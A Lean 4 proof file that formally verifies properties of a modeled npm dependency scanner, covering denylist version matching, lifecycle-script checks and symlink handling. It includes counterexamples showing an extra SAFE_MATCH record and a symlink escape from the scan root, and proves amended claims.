theorem checkScriptsCmd_countType (t : String)
    (h1 : t ≠ "CRITICAL_SCRIPT") (h2 : t ≠ "SCRIPT_WARNING")
    (content : Json) (pkgName pkgPath cmd : String) (st : ScanState) :
    countType t (checkScriptsCmd content pkgName pkgPath cmd st).1.issues =
      countType t st.issues := by
  unfold checkScriptsCmd
  dsimp only
  by_cases hwl : SCRIPT_WHITELIST.contains (jsSlice cmd 2000) = true
  · rw [if_pos hwl]
  · rw [if_neg hwl]
    by_cases hwr : (SCRIPT_WHITELIST_REGEX.any fun f => f (jsSlice cmd 2000)) = true
    · rw [if_pos hwr]
    · rw [if_neg hwr]
      cases List.find? (fun r => r.test (jsSlice cmd 2000)) CRITICAL_PATTERNS with
      | some rule => simp [countType_pushIssue, Ne.symm h1]
      | none =>
        apply foldl_countType_invariant
        intro st2 r
        by_cases hrt : r.test (jsSlice cmd 2000) = true
        · simp [hrt, countType_pushIssue, Ne.symm h2]
        · simp [hrt]

theorem checkScriptsLoop_countType (t : String)
    (h1 : t ≠ "CRITICAL_SCRIPT") (h2 : t ≠ "SCRIPT_WARNING")
    (content scriptsJ : Json) (pkgName pkgPath : String) :
    ∀ (hooks : List String) (st : ScanState),
      countType t (checkScriptsLoop content scriptsJ pkgName pkgPath hooks st).issues =
        countType t st.issues := by
  intro hooks
  induction hooks with
  | nil => intro st; rfl
  | cons hook rest ih =>
    intro st
    unfold checkScriptsLoop
    cases jsonField scriptsJ hook with
    | none => exact ih st
    | some cmdJ =>
      by_cases htr : jsonTruthy cmdJ = true
      · simp only [htr, Bool.not_true, Bool.false_eq_true, if_false, reduceIte]
        cases cmdJ with
        | str cmd =>
          dsimp only
          cases hcc : checkScriptsCmd content pkgName pkgPath cmd st with
          | mk st2 stop =>
            have hc := checkScriptsCmd_countType t h1 h2 content pkgName pkgPath cmd st
            rw [hcc] at hc
            dsimp only at hc
            cases stop with
            | true => exact hc
            | false =>
              dsimp only
              rw [ih st2]
              exact hc
        | null => exact ih st
        | bool b => exact ih st
        | num n => exact ih st
        | arr xs => exact ih st
        | obj kvs => exact ih st
      · simp only [htr]
        simp only [Bool.not_eq_true] at htr
        simp [htr]
        exact ih st

theorem checkScripts_countType (t : String)
    (h1 : t ≠ "CRITICAL_SCRIPT") (h2 : t ≠ "SCRIPT_WARNING")
    (content : Json) (pkgName pkgPath : String) (st : ScanState) :
    countType t (checkScripts content pkgName pkgPath st).issues = countType t st.issues := by
  unfold checkScripts
  dsimp only
  repeat' split
  all_goals first
  | rfl
  | exact checkScriptsLoop_countType t h1 h2 content _ pkgName pkgPath lifecycleHooks st

theorem checkManifest_version_branch
    (fs : FS) (jp : String → Except String Json) (bad : Denylist)
    (vp pkgPath pkgName : String) (st : ScanState)
    (vs : List String) (content : String) (sz : Nat) (pj : Json) (v : String)
    (hb : bad pkgName = some vs)
    (hr : safeReadFile fs (pathJoin vp "package.json") MAX_FILE_SIZE_BYTES =
      ⟨some content, none, sz⟩)
    (hp : jp content = .ok pj)
    (hv : jsonField pj "version" = some (.str v))
    (hvne : v ≠ "") :
    checkManifest fs jp bad vp pkgPath pkgName st =
      (if vs.contains "*" || vs.contains v then
        pushIssue ⟨(if vs.contains "*" then "WILDCARD_MATCH" else "VERSION_MATCH"),
          pkgName, v, pkgPath, ""⟩ (checkScripts pj pkgName pkgPath st)
      else pushIssue ⟨"SAFE_MATCH", pkgName, v, pkgPath, ""⟩
        (checkScripts pj pkgName pkgPath st)) := by
  simp only [checkManifest, hr, hp, hb, hv, hvne, if_false, reduceIte]

/-- Claim C1 as amended: for a watched package whose manifest parses
with a nonempty string version, a wildcard entry yields exactly one
WILDCARD_MATCH and no VERSION_MATCH (wildcard tested before exact, even
when the declared version is also listed); an exact-only hit yields
exactly one VERSION_MATCH and no WILDCARD_MATCH; otherwise neither
fires and the manifest section emits exactly one SAFE_MATCH — on top of
any SAFE_MATCH audit records (version UNKNOWN) that the preceding
forensic file check produced for benign suspicious-named files. -/
theorem version_tiebreak
    (fs : FS) (jp : String → Except String Json) (jstr : Json → String) (bad : Denylist)
    (pkgPath pkgName : String)
    (vs : List String) (hb : bad pkgName = some vs)
    (st : ScanState) (hiss : st.issues = []) (hsd : st.shuttingDown = false)
    (hval : validatePath pkgPath none = some pkgPath)
    (content : String) (sz : Nat)
    (hr : safeReadFile fs (pathJoin pkgPath "package.json") MAX_FILE_SIZE_BYTES =
      ⟨some content, none, sz⟩)
    (pj : Json) (hp : jp content = .ok pj)
    (v : String) (hv : jsonField pj "version" = some (.str v)) (hvne : v ≠ "") :
    (vs.contains "*" = true →
      countType "WILDCARD_MATCH"
        (checkPackageJson fs jp jstr bad pkgPath pkgName st).issues = 1 ∧
      countType "VERSION_MATCH"
        (checkPackageJson fs jp jstr bad pkgPath pkgName st).issues = 0) ∧
    (vs.contains "*" = false → vs.contains v = true →
      countType "VERSION_MATCH"
        (checkPackageJson fs jp jstr bad pkgPath pkgName st).issues = 1 ∧
      countType "WILDCARD_MATCH"
        (checkPackageJson fs jp jstr bad pkgPath pkgName st).issues = 0) ∧
    (vs.contains "*" = false → vs.contains v = false →
      countType "VERSION_MATCH"
        (checkPackageJson fs jp jstr bad pkgPath pkgName st).issues = 0 ∧
      countType "WILDCARD_MATCH"
        (checkPackageJson fs jp jstr bad pkgPath pkgName st).issues = 0 ∧
      ∀ st2 : ScanState,
        countType "SAFE_MATCH"
          (checkManifest fs jp bad pkgPath pkgPath pkgName st2).issues =
        countType "SAFE_MATCH" st2.issues + 1) := by
  have hcpj : checkPackageJson fs jp jstr bad pkgPath pkgName st =
      checkManifest fs jp bad pkgPath pkgPath pkgName
        (checkForensic fs jp jstr pkgPath pkgName
          { st with filesChecked := st.filesChecked + 1 }) := by
    simp only [checkPackageJson, hsd, Bool.false_eq_true, if_false, hval]
  have hcount : ∀ t : String, t ≠ "FORENSIC_MATCH" → t ≠ "FORENSIC_ARTIFACT" →
      t ≠ "SAFE_MATCH" → t ≠ "CRITICAL_SCRIPT" → t ≠ "SCRIPT_WARNING" →
      countType t (checkPackageJson fs jp jstr bad pkgPath pkgName st).issues =
        (if (if vs.contains "*" || vs.contains v then
               (if vs.contains "*" then "WILDCARD_MATCH" else "VERSION_MATCH")
             else "SAFE_MATCH") = t then 1 else 0) := by
    intro t ht1 ht2 ht3 ht4 ht5
    rw [hcpj, checkManifest_version_branch fs jp bad pkgPath pkgPath pkgName _
      vs content sz pj v hb hr hp hv hvne]
    by_cases hm : vs.contains "*" || vs.contains v
    · rw [if_pos hm, if_pos hm, countType_pushIssue,
        checkScripts_countType t ht4 ht5,
        checkForensic_countType t ht1 ht2 ht3]
      simp [countType, hiss]
    · rw [if_neg hm, if_neg hm, countType_pushIssue,
        checkScripts_countType t ht4 ht5,
        checkForensic_countType t ht1 ht2 ht3]
      simp [countType, hiss]
  refine ⟨?_, ?_, ?_⟩
  · intro hw
    have hw2 : "*" ∈ vs := by simpa using hw
    constructor
    · rw [hcount "WILDCARD_MATCH" (by decide) (by decide) (by decide) (by decide) (by decide)]
      simp [hw2]
    · rw [hcount "VERSION_MATCH" (by decide) (by decide) (by decide) (by decide) (by decide)]
      simp [hw2]
  · intro hw hx
    have hw2 : "*" ∉ vs := by simpa using hw
    have hx2 : v ∈ vs := by simpa using hx
    constructor
    · rw [hcount "VERSION_MATCH" (by decide) (by decide) (by decide) (by decide) (by decide)]
      simp [hw2, hx2]
    · rw [hcount "WILDCARD_MATCH" (by decide) (by decide) (by decide) (by decide) (by decide)]
      simp [hw2, hx2]
  · intro hw hx
    have hw2 : "*" ∉ vs := by simpa using hw
    have hx2 : v ∉ vs := by simpa using hx
    refine ⟨?_, ?_, ?_⟩
    · rw [hcount "VERSION_MATCH" (by decide) (by decide) (by decide) (by decide) (by decide)]
      simp [hw2, hx2]
    · rw [hcount "WILDCARD_MATCH" (by decide) (by decide) (by decide) (by decide) (by decide)]
      simp [hw2, hx2]
    · intro st2
      rw [checkManifest_version_branch fs jp bad pkgPath pkgPath pkgName st2
        vs content sz pj v hb hr hp hv hvne]
      rw [if_neg (by simp [hw2, hx2]), countType_pushIssue,
        checkScripts_countType "SAFE_MATCH" (by decide) (by decide)]
      simp

/-- Package directory for the C1 counterexample: a benign `bundle.js`
plus a clean watched manifest. -/
def fsC1 : FS :=
  ⟨fun p => if p = "/nm/ok-pkg/bundle.js" then .ok ⟨.file, 17, 0⟩
            else if p = "/nm/ok-pkg/package.json" then .ok ⟨.file, 7, 0⟩
            else .error "ENOENT",
   fun p => if p = "/nm/ok-pkg/bundle.js" then .ok ⟨.file, 17, 0⟩
            else if p = "/nm/ok-pkg/package.json" then .ok ⟨.file, 7, 0⟩
            else .error "ENOENT",
   fun p => if p = "/nm/ok-pkg/bundle.js" then .ok "react application"
            else if p = "/nm/ok-pkg/package.json" then .ok "PKGJSON"
            else .error "ENOENT",
   fun p => .ok p, fun _ => .error "ENOTDIR",
   fun p => p = "/nm/ok-pkg/bundle.js" || p = "/nm/ok-pkg/package.json"⟩

/-- Parse oracle for C1: `PKGJSON` parses to a version-1.0.0 manifest. -/
def jpC1 : String → Except String Json := fun s =>
  if s = "PKGJSON" then .ok (.obj [("version", .str "1.0.0")]) else .error "Unexpected token"

/-- Denylist watching `ok-pkg` at the non-matching version 9.9.9. -/
def badC1 : Denylist := fun n => if n = "ok-pkg" then some ["9.9.9"] else none

set_option maxRecDepth 1000000 in
/-- Counterexample to C1 as stated: a watched package at a clean version
whose directory also holds a benign `bundle.js` makes `checkPackageJson`
emit two SAFE_MATCH issues (one forensic audit record, one version
audit record), not exactly one. -/
theorem checkPackageJson_two_safe_matches :
    countType "SAFE_MATCH"
      (checkPackageJson fsC1 jpC1 jsEmpty badC1 "/nm/ok-pkg" "ok-pkg" scanState0).issues = 2 := by
  decide

/-- Denylist for the C1 witness: wildcard plus the declared version. -/
def badC1w : Denylist := fun n => if n = "ok-pkg" then some ["*", "1.0.0"] else none

/-- Witness for the amended C1, wildcard branch. -/
theorem version_tiebreak_witness :
    (badC1w "ok-pkg" = some ["*", "1.0.0"] ∧
     scanState0.issues = [] ∧ scanState0.shuttingDown = false ∧
     validatePath "/nm/ok-pkg" none = some "/nm/ok-pkg" ∧
     safeReadFile fsC1 (pathJoin "/nm/ok-pkg" "package.json") MAX_FILE_SIZE_BYTES =
       ⟨some "PKGJSON", none, 7⟩ ∧
     jpC1 "PKGJSON" = .ok (.obj [("version", .str "1.0.0")]) ∧
     jsonField (.obj [("version", .str "1.0.0")]) "version" = some (.str "1.0.0") ∧
     ("1.0.0" : String) ≠ "" ∧
     (["*", "1.0.0"] : List String).contains "*" = true) ∧
    (countType "WILDCARD_MATCH"
       (checkPackageJson fsC1 jpC1 jsEmpty badC1w "/nm/ok-pkg" "ok-pkg" scanState0).issues = 1 ∧
     countType "VERSION_MATCH"
       (checkPackageJson fsC1 jpC1 jsEmpty badC1w "/nm/ok-pkg" "ok-pkg" scanState0).issues = 0) :=
  ⟨⟨rfl, rfl, rfl, by decide, rfl, rfl, rfl, by decide, by decide⟩,
   (version_tiebreak fsC1 jpC1 jsEmpty badC1w "/nm/ok-pkg" "ok-pkg" ["*", "1.0.0"] rfl
      scanState0 rfl rfl (by decide) "PKGJSON" 7 rfl (.obj [("version", .str "1.0.0")]) rfl
      "1.0.0" rfl (by decide)).1 (by decide)⟩

end SH
namespace SH

theorem pushIssue_sym (i : Issue) (st : ScanState) :
    (pushIssue i st).symlinksSkipped = st.symlinksSkipped := rfl

theorem foldl_sym_invariant {α : Type} (f : ScanState → α → ScanState)
    (h : ∀ st a, (f st a).symlinksSkipped = st.symlinksSkipped) :
    ∀ (l : List α) (st : ScanState),
      (List.foldl f st l).symlinksSkipped = st.symlinksSkipped := by
  intro l
  induction l with
  | nil => intro st; rfl
  | cons a rest ih =>
    intro st
    rw [List.foldl_cons, ih, h]

theorem checkVersionMatch_sym (pkg : String) (ver : Option Json) (bv : List String)
    (lockPath ty : String) (st : ScanState) :
    (checkVersionMatch pkg ver bv lockPath ty st).symlinksSkipped = st.symlinksSkipped := by
  unfold checkVersionMatch
  dsimp only
  repeat' split
  all_goals rfl

theorem checkDependenciesRecursive_sym (bad : Denylist) (lockPath : String) :
    ∀ (fuel depth : Nat) (deps : List (String × Json)) (st : ScanState),
      (checkDependenciesRecursive bad lockPath fuel depth deps st).symlinksSkipped =
        st.symlinksSkipped := by
  intro fuel
  induction fuel with
  | zero => intro depth deps st; simp only [checkDependenciesRecursive]
  | succ n ih =>
    intro depth deps st
    unfold checkDependenciesRecursive
    split
    · rfl
    · apply foldl_sym_invariant
      intro st2 kv
      dsimp only
      repeat' split
      all_goals try rw [ih]
      all_goals first | rfl | apply checkVersionMatch_sym

theorem yarn_foldl_sym (bad : Denylist) (lockPath : String) :
    ∀ (lines : List String) (acc : ScanState × Option String),
      ((List.foldl (yarnLineStep bad lockPath) acc lines).1).symlinksSkipped =
        (acc.1).symlinksSkipped := by
  intro lines
  induction lines with
  | nil => intro acc; rfl
  | cons l rest ih =>
    intro acc
    rw [List.foldl_cons, ih]
    obtain ⟨st0, cp⟩ := acc
    unfold yarnLineStep
    dsimp only
    repeat' split
    all_goals rfl

theorem checkLockfile_sym (fs : FS) (jp : String → Except String Json) (bad : Denylist)
    (lockPath : String) (st : ScanState) :
    (checkLockfile fs jp bad lockPath st).symlinksSkipped = st.symlinksSkipped := by
  unfold checkLockfile
  dsimp only
  repeat' split
  all_goals try rw [checkDependenciesRecursive_sym]
  all_goals try rw [yarn_foldl_sym]
  all_goals first
  | rfl
  | (apply foldl_sym_invariant; intro a kv; dsimp only; repeat' split;
     all_goals first | rfl | apply checkVersionMatch_sym)

theorem checkScriptsCmd_sym (content : Json) (pkgName pkgPath cmd : String)
    (st : ScanState) :
    (checkScriptsCmd content pkgName pkgPath cmd st).1.symlinksSkipped =
      st.symlinksSkipped := by
  unfold checkScriptsCmd
  dsimp only
  repeat' split
  all_goals first
  | rfl
  | (apply foldl_sym_invariant; intro a r; dsimp only; split; all_goals rfl)

theorem checkScriptsLoop_sym (content scriptsJ : Json) (pkgName pkgPath : String) :
    ∀ (hooks : List String) (st : ScanState),
      (checkScriptsLoop content scriptsJ pkgName pkgPath hooks st).symlinksSkipped =
        st.symlinksSkipped := by
  intro hooks
  induction hooks with
  | nil => intro st; rfl
  | cons hook rest ih =>
    intro st
    unfold checkScriptsLoop
    repeat' split
    all_goals try apply ih
    all_goals
      (rename_i st2 heq
       have h2 := congrArg (fun s : ScanState × Bool => Prod.fst s) heq
       dsimp only at h2
       rw [← h2]
       first | (apply checkScriptsCmd_sym) | (rw [ih]; apply checkScriptsCmd_sym))

theorem checkScripts_sym (content : Json) (pkgName pkgPath : String) (st : ScanState) :
    (checkScripts content pkgName pkgPath st).symlinksSkipped = st.symlinksSkipped := by
  unfold checkScripts
  dsimp only
  repeat' split
  all_goals first | rfl | apply checkScriptsLoop_sym

theorem forensicStep_sym (fs : FS) (jp : String → Except String Json)
    (js : Json → String) (vp pkgName : String) (st : ScanState) (fp : String) :
    (forensicStep fs jp js vp pkgName st fp).symlinksSkipped = st.symlinksSkipped := by
  unfold forensicStep
  dsimp only
  repeat' split
  all_goals rfl

theorem checkForensic_sym (fs : FS) (jp : String → Except String Json)
    (js : Json → String) (vp pkgName : String) (st : ScanState) :
    (checkForensic fs jp js vp pkgName st).symlinksSkipped = st.symlinksSkipped := by
  unfold checkForensic
  apply foldl_sym_invariant
  intro a fp
  apply forensicStep_sym

theorem checkManifest_sym (fs : FS) (jp : String → Except String Json) (bad : Denylist)
    (vp pkgPath pkgName : String) (st : ScanState) :
    (checkManifest fs jp bad vp pkgPath pkgName st).symlinksSkipped =
      st.symlinksSkipped := by
  unfold checkManifest
  dsimp only
  repeat' split
  all_goals simp only [pushIssue_sym, checkScripts_sym]

theorem checkPackageJson_sym (fs : FS) (jp : String → Except String Json)
    (js : Json → String) (bad : Denylist) (pkgPath pkgName : String) (st : ScanState) :
    (checkPackageJson fs jp js bad pkgPath pkgName st).symlinksSkipped =
      st.symlinksSkipped := by
  unfold checkPackageJson
  dsimp only
  repeat' split
  all_goals first
  | rfl
  | (rw [checkManifest_sym, checkForensic_sym])

theorem checkPackageLockfiles_sym (fs : FS) (jp : String → Except String Json)
    (bad : Denylist) (pkgPath : String) (st : ScanState) :
    (checkPackageLockfiles fs jp bad pkgPath st).symlinksSkipped =
      st.symlinksSkipped := by
  unfold checkPackageLockfiles
  apply foldl_sym_invariant
  intro a lf
  dsimp only
  repeat' split
  all_goals first | rfl | apply checkLockfile_sym

theorem scanNMLoop_sym (fs : FS) (jp : String → Except String Json)
    (js : Json → String) (bad : Denylist) (modulesPath : String) :
    ∀ (pkgs : List String) (st : ScanState),
      (scanNMLoop fs jp js bad modulesPath pkgs st).symlinksSkipped =
        st.symlinksSkipped := by
  intro pkgs
  induction pkgs with
  | nil => intro st; rfl
  | cons pkg rest ih =>
    intro st
    unfold scanNMLoop
    dsimp only
    repeat' split
    all_goals try rw [ih]
    all_goals first
    | rfl
    | (rw [checkPackageLockfiles_sym, checkPackageJson_sym])
    | (apply foldl_sym_invariant; intro a sp; dsimp only;
       rw [checkPackageLockfiles_sym, checkPackageJson_sym])

theorem scanNodeModules_sym (fs : FS) (jp : String → Except String Json)
    (js : Json → String) (bad : Denylist) (modulesPath : String) (st : ScanState) :
    (scanNodeModules fs jp js bad modulesPath st).symlinksSkipped =
      st.symlinksSkipped := by
  unfold scanNodeModules
  dsimp only
  repeat' split
  all_goals first | rfl | apply scanNMLoop_sym

theorem checkSymlink_depth0_no_skip (fs : FS) (p : String) :
    ((checkSymlink fs p 0).isSymlink && !(checkSymlink fs p 0).safe) = false := by
  unfold checkSymlink
  repeat' split
  all_goals first | rfl | (rename_i h; exact absurd h (by decide))

theorem scanDirEntryStep_sym (fs : FS) (jp : String → Except String Json)
    (js : Json → String) (bad : Denylist) (cp : String)
    (recurse : String → ScanState → ScanState)
    (hrec : ∀ (p : String) (a : ScanState),
      (recurse p a).symlinksSkipped = a.symlinksSkipped) :
    ∀ (acc : ScanState) (e : String × FKind),
      (scanDirEntryStep fs jp js bad cp recurse acc e).symlinksSkipped =
        acc.symlinksSkipped := by
  intro acc e
  unfold scanDirEntryStep
  dsimp only
  repeat' split
  all_goals first
  | rfl
  | apply checkLockfile_sym
  | apply scanNodeModules_sym
  | apply hrec

theorem scanDir_sym (fs : FS) (jp : String → Except String Json)
    (js : Json → String) (bad : Denylist) :
    ∀ (fuel : Nat) (cp : String) (d md : Nat) (st : ScanState),
      (scanDir fs jp js bad fuel cp d md st).symlinksSkipped = st.symlinksSkipped := by
  intro fuel
  induction fuel with
  | zero => intro cp d md st; rfl
  | succ n ih =>
    intro cp d md st
    unfold scanDir
    dsimp only
    repeat' split
    all_goals first
    | rfl
    | (rename_i h; rw [checkSymlink_depth0_no_skip] at h; exact absurd h (by decide))
    | apply scanNodeModules_sym
    | (rw [foldl_sym_invariant _ (scanDirEntryStep_sym fs jp js bad _ _
          (fun p a => ih p (d + 1) md a)), checkPackageJson_sym])

/-- Sample filesystem for C3: the scan root itself is a symlink whose real
path lies outside the root; its target is a readable empty directory. -/
def fsC3a : FS :=
  ⟨fun p => if p = "/r" then .ok ⟨.symlink, 0, 0⟩ else .error "ENOENT",
   fun _ => .error "ENOENT",
   fun _ => .error "ENOENT",
   fun p => if p = "/r" then .ok "/out" else .error "ENOENT",
   fun p => if p = "/out" then .ok [] else .error "ENOENT",
   fun _ => false⟩

/-- Sample filesystem for C3: an unreadable symlink (its resolution fails
with ELOOP, and reading it as a directory fails with EACCES). -/
def fsC3b : FS :=
  ⟨fun p => if p = "/r2" then .ok ⟨.symlink, 0, 0⟩ else .error "ENOENT",
   fun _ => .error "ENOENT",
   fun _ => .error "ENOENT",
   fun _ => .error "ELOOP",
   fun _ => .error "EACCES",
   fun _ => false⟩

set_option maxRecDepth 100000 in
/-- Claim C3, counterexample.  First run: scanning the root `/r`, itself a
symlink resolving to `/out`, reads the entries of `/out`, a directory
outside every provided scan root (`/out` is neither `/r` nor under
`/r/`): escape is possible because `scanDir` follows a root symlink with
no containment check on the resolved path.  Second run: a symlink whose
resolution fails is reported by `checkSymlink` as `isSymlink: false`, so
it is not skipped: `scanDir` attempts to read it as a directory (it is
logged in the readdir log) and the failure lands in `errorsEncountered`,
while `symlinksSkipped` stays 0. -/
theorem scanDir_escapes_root_and_drops_symlink_count :
    ((scanDir fsC3a jpNone jsEmpty badEmpty 12 "/r" 0 5 scanState0).readdirLog =
        ["/out"] ∧
      ¬("/out" = "/r" ∨ strStarts "/out" "/r/" = true)) ∧
    ((scanDir fsC3b jpNone jsEmpty badEmpty 12 "/r2" 0 5 scanState0).symlinksSkipped
        = 0 ∧
      (scanDir fsC3b jpNone jsEmpty badEmpty 12 "/r2" 0 5 scanState0).readdirLog =
        ["/r2"] ∧
      (scanDir fsC3b jpNone jsEmpty badEmpty 12 "/r2" 0 5 scanState0).errorsEncountered
        = 1) := by
  decide

/-- Claim C3 as amended: (a) the depth guard holds: whenever the child
depth `depth` exceeds `min maxDepth MAX_SCAN_DEPTH`, `scanDir` returns its
input state unchanged, whatever the filesystem (so recursion past the
configured depth is impossible even through arbitrarily deep symlinked
chains); and (b) the `symlinksSkipped` counter is dead: every `scanDir`
run leaves it exactly as it was, because `checkSymlink` at depth 0 can
never report an unsafe symlink (resolution failures are reported as
non-symlinks and followed, with the failure counted in
`errorsEncountered` instead). -/
theorem scanDir_depth_guard_and_dead_symlink_counter :
    (∀ (fs : FS) (jp : String → Except String Json) (js : Json → String)
        (bad : Denylist) (fuel : Nat) (cp : String) (depth maxDepth : Nat)
        (st : ScanState), depth > min maxDepth MAX_SCAN_DEPTH →
        scanDir fs jp js bad fuel cp depth maxDepth st = st) ∧
    (∀ (fs : FS) (jp : String → Except String Json) (js : Json → String)
        (bad : Denylist) (fuel : Nat) (cp : String) (depth maxDepth : Nat)
        (st : ScanState),
        (scanDir fs jp js bad fuel cp depth maxDepth st).symlinksSkipped =
          st.symlinksSkipped) := by
  constructor
  · intro fs jp js bad fuel cp depth maxDepth st hd
    cases fuel with
    | zero => rfl
    | succ n =>
      unfold scanDir
      dsimp only
      repeat' split
      all_goals rfl
  · intro fs jp js bad fuel cp depth maxDepth st
    apply scanDir_sym

set_option maxRecDepth 100000 in
/-- Witness for the amended C3 theorem at concrete inputs: depth 11
exceeds `min 5 10`, so the scan returns the initial state unchanged. -/
theorem scanDir_depth_guard_and_dead_symlink_counter_witness :
    11 > min 5 MAX_SCAN_DEPTH ∧
    scanDir fsC3a jpNone jsEmpty badEmpty 12 "/r" 11 5 scanState0 = scanState0 :=
  ⟨by decide,
   scanDir_depth_guard_and_dead_symlink_counter.1 fsC3a jpNone jsEmpty badEmpty
     12 "/r" 11 5 scanState0 (by decide)⟩

end SH
